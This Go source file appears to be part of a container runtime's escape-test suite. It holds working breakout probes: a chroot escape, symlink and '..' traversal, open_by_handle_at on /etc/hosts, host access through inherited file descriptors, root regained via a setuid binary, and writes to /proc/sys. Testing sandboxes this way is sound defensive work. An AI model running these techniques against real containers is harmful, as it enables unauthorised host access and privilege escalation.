package main

import (
	"bytes"
	"errors"
	"fmt"
	"io"
	"os"
	"path/filepath"

	"golang.org/x/sys/unix"

	"github.com/berth-ecs/berth/test/escape/aim"
)

// again opens a control file for writing; of one of /proc/sys it writes what it holds.
func again(paths ...string) func(aim.Aim) error {
	return func(aim.Aim) error {
		last := fmt.Errorf("%w: %s", errAbsent, paths[0])
		for _, p := range paths {
			was, rerr := os.ReadFile(p)
			f, err := os.OpenFile(p, os.O_WRONLY, 0)
			if errors.Is(err, os.ErrNotExist) {
				continue
			}
			if err != nil {
				last = err
				continue
			}
			defer f.Close()
			if rerr != nil || len(was) == 0 || !filepath.HasPrefix(p, "/proc/sys/") { //nolint:staticcheck // plain paths
				return nil
			}
			_, err = f.Write(was)
			return err
		}
		return last
	}
}

// hidden reads what containers should not see.
func hidden(path string) func(aim.Aim) error {
	return func(aim.Aim) error {
		f, err := os.Open(path)
		if err != nil {
			if errors.Is(err, os.ErrNotExist) {
				return fmt.Errorf("%w: %s", errAbsent, path)
			}
			return err
		}
		defer f.Close()
		if names, err := f.Readdirnames(1); err == nil && len(names) > 0 {
			return nil
		}
		b := make([]byte, 16)
		if n, err := f.Read(b); n == 0 {
			return fmt.Errorf("it is empty: %w", errors.Join(err, unix.EACCES))
		}
		return nil
	}
}

// under is where the machine's files would be.
var under = []string{"", "/machine"}

// secret looks for the machine's file below a directory.
func secret(a aim.Aim, dir string) error {
	b, err := os.ReadFile(dir + a.Secret)
	if err != nil {
		return err
	}
	if !bytes.Contains(b, []byte(a.Token)) {
		return errors.New("it is another file")
	}
	return nil
}

// upwards leaves a directory by "..", and by symbolic links that say so.
func upwards(a aim.Aim) error {
	var all error
	for _, up := range []string{"", "/../../../../../..", "/proc/self/cwd/../../../../../../..", "/proc/1/root/../../.."} {
		dir, err := os.MkdirTemp("", "")
		if err != nil {
			return err
		}
		defer os.RemoveAll(dir)
		if err := os.Symlink(up+"/", dir+"/link"); err != nil {
			return err
		}
		for _, from := range []string{up, dir + "/link"} {
			err := secret(a, from)
			if err == nil {
				return nil
			}
			all = err
		}
	}
	return all
}

// chrootOut is the old way out of a directory that is only called the root.
func chrootOut(a aim.Aim) error {
	if err := os.MkdirAll("/tmp/jail", 0o700); err != nil {
		return err
	}
	top, err := unix.Open("/", unix.O_RDONLY|unix.O_DIRECTORY, 0)
	if err != nil {
		return err
	}
	if err := call(unix.SYS_UNSHARE, unix.CLONE_FS); err != nil {
		return err
	}
	if err := unix.Chroot("/tmp/jail"); err != nil {
		return err
	}
	if err := unix.Fchdir(top); err != nil {
		return err
	}
	for range 32 {
		if err := unix.Chdir(".."); err != nil {
			return err
		}
	}
	if err := unix.Chroot("."); err != nil {
		return err
	}
	return secret(a, "")
}

// handle opens a file by its number on the disk, past every directory. /etc/hosts lies on the machine's.
func handle(aim.Aim) error {
	h, _, err := unix.NameToHandleAt(unix.AT_FDCWD, "/etc/hosts", 0)
	if err != nil {
		return fmt.Errorf("name_to_handle_at: %w", err)
	}
	mount, err := unix.Open("/etc/hosts", unix.O_RDONLY, 0)
	if err != nil {
		return err
	}
	defer unix.Close(mount)
	fd, err := unix.OpenByHandleAt(mount, h, unix.O_RDONLY)
	if err == nil {
		_ = unix.Close(fd)
	}
	return err
}

// descriptors looks for directories that the first process inherited, its working directory among them, and for the machine below them.
func descriptors(a aim.Aim) error {
	last := errors.New("it inherited no directory")
	dirs := []string{"/proc/self/cwd"}
	for fd := range 64 {
		dirs = append(dirs, fmt.Sprintf("/proc/self/fd/%d", fd))
	}
	for _, d := range dirs {
		st, err := os.Stat(d)
		if err != nil || !st.IsDir() {
			continue
		}
		if last = secret(a, d+"/../../../../../../../.."); last == nil {
			return nil
		}
	}
	return last
}

// regain becomes root again by a program of root's whose mode says so.
func regain(aim.Aim) error {
	dir, err := os.MkdirTemp("/", "")
	if err != nil {
		return err
	}
	defer os.RemoveAll(dir)
	program := dir + "/program"
	if err := copyFile("/proc/self/exe", program); err != nil {
		return err
	}
	if err := errors.Join(os.Chmod(dir, 0o755), os.Chmod(program, 0o755|os.ModeSetuid)); err != nil {
		return err
	}
	return asNobody(program, "who")
}

func copyFile(from, to string) error {
	in, err := os.Open(from)
	if err != nil {
		return err
	}
	defer in.Close()
	out, err := os.OpenFile(to, os.O_CREATE|os.O_WRONLY, 0o755)
	if err != nil {
		return err
	}
	_, err = io.Copy(out, in)
	return errors.Join(err, out.Close())
}

// rootAgain answers nil when this process, which somebody else began, is root's.
func rootAgain() error {
	if os.Geteuid() == 0 {
		return nil
	}
	return fmt.Errorf("user %d: %w", os.Geteuid(), unix.EPERM)
}
